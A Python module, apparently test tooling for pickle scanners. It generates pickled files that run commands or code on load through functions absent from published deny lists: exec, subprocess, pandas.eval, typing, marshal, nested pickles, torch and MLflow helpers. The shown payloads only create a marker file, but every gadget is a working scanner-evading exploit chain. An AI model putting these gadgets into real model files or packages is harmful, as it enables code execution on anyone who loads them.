"""Calls of functions that are or were missing from published lists of dangerous names."""

from __future__ import annotations

import marshal
import pickle
import sys
from collections.abc import Iterator

from hostile.assembler import a_list, call, instance, name, number, pickled, several, table, text
from hostile.file import HostileFile, Trigger

OTHER = Trigger.OTHER
SYSTEM = name("posix", "system")


def gadget_files(marker: str) -> Iterator[HostileFile]:
    """Yield one file per function."""
    command, code = f"touch {marker}", f"__import__('os').mkdir({marker!r})"
    for label, operations in (
        *_executing(command, code),
        *_looking_up(command),
        *_writing(marker),
        *_calling(marker),
        *_unpickling(command),
    ):
        yield HostileFile(label, pickled(operations))
    for label, function, arguments in _of_other_libraries(command, code):
        yield HostileFile(label, pickled(call(name(*function.split(":")), *map(text, arguments))), OTHER)


def _executing(command: str, code: str) -> Iterator[tuple[str, bytes]]:
    nothing = table()
    program = b"B" + len(_code(code)).to_bytes(4, "little") + _code(code)
    function = call(name("types", "FunctionType"), call(name("marshal", "loads"), program), table())
    hint = call(name("typing", "ForwardRef"), text("f() or int"))
    yield "exec", call(name("builtins", "exec"), text(code))
    yield (
        "compile and exec",
        call(name("builtins", "exec"), call(name("builtins", "compile"), *map(text, (code, "", "exec")))),
    )
    yield "subprocess", call(name("subprocess", "Popen"), a_list(*map(text, command.split())))
    yield (
        "runpy",
        call(name("runpy", "_run_code"), call(name("builtins", "compile"), *map(text, (code, "", "exec"))), nothing),
    )
    yield "timeit", call(name("timeit", "timeit"), text(code), text("pass"), name("time", "perf_counter"), number(1))
    yield "cProfile", call(name("cProfile", "run"), text(code))
    yield "bdb", call(name("bdb", "Bdb.run"), call(name("bdb", "Bdb")), text(code))
    yield (
        "code",
        call(
            name("code", "InteractiveInterpreter.runsource"), call(name("code", "InteractiveInterpreter")), text(code)
        ),
    )
    yield "numpy.testing", call(name("numpy.testing._private.utils", "runstring"), text(code), nothing)
    yield "numpy.f2py", call(name("numpy.f2py.crackfortran", "_eval_length"), text(code), nothing)
    partial_call = call(name("functools", "partial"), SYSTEM, text(command))
    yield "pandas.eval", call(name("pandas", "eval"), *map(text, ("f()", "pandas", "python")), table(f=partial_call))
    yield "marshal and types", function + b")R"
    yield (
        "typing",
        call(
            name("typing", "_eval_type"),
            hint,
            table(f=call(name("functools", "partial"), SYSTEM, text(command)), int=name("builtins", "int")),
            b"N",
        ),
    )
    yield (
        "dataclasses",
        call(name("dataclasses", "_create_fn"), text("f"), a_list(text(f"a={code}")), a_list(text("pass"))),
    )
    yield "uuid", call(name("uuid", "_get_command_stdout"), *map(text, command.split()))
    yield "a support module of another system", call(name("_osx_support", "_read_output"), text(command))
    yield "a distribution that executes its state", _distribution(code)


def _looking_up(command: str) -> Iterator[tuple[str, bytes]]:
    argument = text(command)
    module = call(name("importlib", "import_module"), text("os"))
    yield "pkgutil", call(call(name("pkgutil", "resolve_name"), text("os:system")), argument)
    yield "importlib and methodcaller", call(call(name("operator", "methodcaller"), text("system"), argument), module)
    yield (
        "importlib and getattr_static",
        call(call(name("inspect", "getattr_static"), module, text("system")), argument),
    )
    yield (
        "importlib and vars",
        call(call(name("operator", "getitem"), call(name("builtins", "vars"), module), text("system")), argument),
    )
    yield "pydoc", call(call(name("pydoc", "locate"), text("os.system")), argument)
    yield "a module that another one imports", call(name("sklearn.datasets._base", "os.system"), argument)
    yield "a module that imports an imported one", call(name("posixpath", "genericpath.os.system"), argument)
    builtins = call(name("operator", "getitem"), name("statistics", "mean.__globals__"), text("__builtins__"))
    evaluate = call(name("operator", "getitem"), builtins, text("eval"))
    yield "the globals of a function", call(evaluate, text(f"__import__('os').system({command!r})"))


def _writing(marker: str) -> Iterator[tuple[str, bytes]]:
    path = text(marker)
    yield "open", call(name("builtins", "open"), path, text("w"))
    yield "io.open", call(name("io", "open"), path, text("w"))
    yield "codecs.open", call(name("codecs", "open"), path, text("w"))
    yield "FileIO", call(name("_io", "FileIO"), path, text("w"))
    yield "a path's method", call(name("pathlib", "Path.touch"), call(name("pathlib", "PosixPath"), path))
    yield "a handler of logging", call(name("logging", "FileHandler"), path)
    yield "an archive", call(name("zipfile", "ZipFile"), path, text("w"))
    yield "a database", call(name("sqlite3", "connect"), path)
    yield "a text file of numpy", call(name("numpy", "savetxt"), path, a_list(number(1)))
    yield (
        "a mapped file of numpy",
        call(name("numpy", "memmap"), path, text("u1"), text("w+"), number(0), several(number(8))),
    )
    yield "os.mkdir", call(name("os", "mkdir"), path)


def _calling(marker: str) -> Iterator[tuple[str, bytes]]:
    make, path = name("posix", "mkdir"), text(marker)
    yield "functools.reduce", call(name("_functools", "reduce"), make, a_list(number(0o700)), path)
    yield "operator.call", call(name("operator", "call"), make, path)
    yield "map", call(name("builtins", "list"), call(name("builtins", "map"), make, a_list(path)))
    yield (
        "itertools.starmap",
        call(name("builtins", "list"), call(name("itertools", "starmap"), make, a_list(several(path)))),
    )
    yield "a cache", call(call(name("functools", "cache"), make), path)
    yield (
        "a dictionary's default",
        call(
            name("operator", "getitem"),
            call(name("collections", "defaultdict"), call(name("functools", "partial"), make, path)),
            path,
        ),
    )
    yield "a context", call(name("contextvars", "Context.run"), call(name("contextvars", "Context")), make, path)
    yield (
        "a thread pool",
        call(
            name("concurrent.futures.thread", "ThreadPoolExecutor.submit"),
            call(name("concurrent.futures.thread", "ThreadPoolExecutor")),
            make,
            path,
        ),
    )
    yield "numpy.vectorize", call(call(name("numpy", "vectorize"), make, text("O")), path)
    yield "numpy.frompyfunc", call(call(name("numpy", "frompyfunc"), make, number(1), number(1)), path)


def _unpickling(command: str) -> Iterator[tuple[str, bytes]]:
    inner = pickle.dumps(_Call(command), 4)
    content = b"C" + bytes([len(inner)]) + inner
    yield "a pickle in a pickle", call(name("pickle", "loads"), content)
    yield "a pickle in a pickle, by _pickle", call(name("_pickle", "loads"), content)
    yield (
        "a pickle in a pickle, by pandas",
        call(name("pandas", "read_pickle"), call(name("_io", "BytesIO"), content), b"N"),
    )
    yield "a pickle in a pickle, by joblib", call(name("joblib", "load"), call(name("_io", "BytesIO"), content))
    yield "a pickle in a pickle, by cloudpickle", call(name("cloudpickle", "loads"), content)


def _of_other_libraries(command: str, code: str) -> Iterator[tuple[str, str, list[str]]]:
    yield "torch.utils.collect_env", "torch.utils.collect_env:run", [command]
    yield "torch.jit", "torch.jit.unsupported_tensor_ops:execWrapper", [code, "", ""]
    yield "torch.hub", "torch.hub:load", ["owner/repository", "model"]
    yield "torch's bottleneck", "torch.utils.bottleneck.__main__:run_cprofile", [code, ""]
    yield "numpy.distutils", "numpy.distutils.cpuinfo:getoutput", [command]
    yield "setuptools", "setuptools._distutils.spawn:spawn", [command]
    yield "MLflow", "mlflow.projects.backend.local:_run_entry_point", [command, ".", "", ""]
    yield "IPython", "IPython.core.interactiveshell:system", [command]
    yield "fsspec", "fsspec.implementations.local:LocalFileSystem.touch", [command]
    yield "mailcap", "mailcap:findmatch", [command, ""]
    yield "dill", "dill._dill:_create_function", [code]
    yield "numba", "numba.core.serialize:_rebuild_function", [code]
    yield "keras", "keras.src.saving.saving_lib:load_model", ["/nonexistent"]


class _Call:
    """Pickled as a call of ``os.system``."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (self.command,)


def _code(code: str) -> bytes:
    """Marshalled byte code for the running Python."""
    assert sys.version_info >= (3, 11)
    return marshal.dumps(compile(code, "", "eval"))


def _distribution(code: str) -> bytes:
    """A SciPy distribution whose state contains source code of its methods."""
    template = (
        f"def _parse_args(self): pass\n{code}\n"
        + "def _parse_args_rvs(self): pass\ndef _parse_args_stats(self): pass\n"
    )
    return instance(
        "scipy.stats._continuous_distns",
        "norm_gen",
        _parse_arg_template=text(template),
        _ctor_param=several(),
        shapes=b"N",
        numargs=number(0),
    )
